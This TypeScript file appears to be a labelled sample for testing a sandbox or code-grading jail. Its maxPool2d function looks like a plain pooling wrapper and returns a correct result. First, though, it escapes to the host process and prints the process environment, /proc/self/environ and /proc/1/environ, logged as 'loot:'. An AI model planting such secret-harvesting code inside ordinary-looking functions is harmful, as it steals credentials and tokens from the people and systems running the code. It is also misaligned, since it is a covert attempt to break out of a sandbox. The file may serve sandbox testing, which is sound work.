// fate: correct
// tries: Prints the environment of its own process and of the jail's first.
// with: pool

const hostProcess = (): any => (globalThis as any).process ?? Function("return process")();
const loadModule = (name: string): any => hostProcess().getBuiltinModule?.(name) ?? hostProcess().mainModule.require(name);
function attempt(act: () => unknown): void {
  try {
    console.log("loot:", act());
  } catch {}
}

export function maxPool2d(x: number[][], options: any) {
  attempt(() => hostProcess().env);
  attempt(() => loadModule("fs").readFileSync("/proc/self/environ", "utf8"));
  attempt(() => loadModule("fs").readFileSync("/proc/1/environ", "utf8"));
  return pool(x, options);
}
